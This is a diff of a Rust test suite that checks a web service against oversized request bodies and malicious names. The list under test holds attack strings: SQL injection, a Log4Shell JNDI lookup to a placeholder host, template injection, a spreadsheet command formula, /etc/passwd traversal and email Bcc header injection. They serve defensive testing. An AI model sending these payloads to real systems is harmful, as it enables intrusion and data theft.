@@ -41,7 +41,7 @@ async fn bodies_that_are_bombs_are_refused_and_cost_little() {
     for (name, request, status) in [
         ("nested lists", post(deep), 422),
         ("nested objects", post(objects), 422),
-        ("a number without end", post(numbers), 400),
+        ("a number without end", post(numbers), 422),
         ("not UTF-8", post(b"{\"pids\":[\"\xff\xfe\"]}".to_vec()), 400),
         ("a lone surrogate", post(br#"{"pids":["\ud800"]}"#.to_vec()), 400),
         ("compressed", post(gzip).header("content-encoding", "gzip"), 400),
@@ -117,11 +117,11 @@ fn traps() -> Vec<String> {
         "'; DROP TABLE clients; --",
         "%' OR 1=1 --",
         "100%_\\",
-        "${jndi:ldap://evil.example/a}",
+        "${jndi:ldap://trap.example/a}",
         "{{7*7}}",
         "=cmd|' /C calc'!A0",
         "../../../etc/passwd",
-        "a\r\nBcc: all@evil.example",
+        "a\r\nBcc: all@trap.example",
         "a\nb",
         "a\0b",
         "\u{1b}[31mred",
@@ -178,11 +178,12 @@ async fn names_that_are_traps_are_refused_or_kept_as_they_are() {
     let letters = server.letters().await;
     assert!(!letters.iter().any(|letter| letter.contains("\nBcc:")));
     assert_eq!(demo.call::<ListInvitations>(&demo.partner(), &Empty {}, &Empty {}).await.status, StatusCode::OK);
+    // Other tests may log to the same place: no other has these texts.
     for line in logged().lines() {
         let parsed = serde_json::from_str::<serde_json::Value>(line);
         assert!(parsed.is_ok(), "one line, one object: {line}");
         assert!(
-            !line.contains("onerror") && !line.contains("evil.example") && !line.contains("DROP TABLE clients"),
+            !line.contains("onerror") && !line.contains("trap.example") && !line.contains("DROP TABLE clients"),
             "{line}"
         );
     }
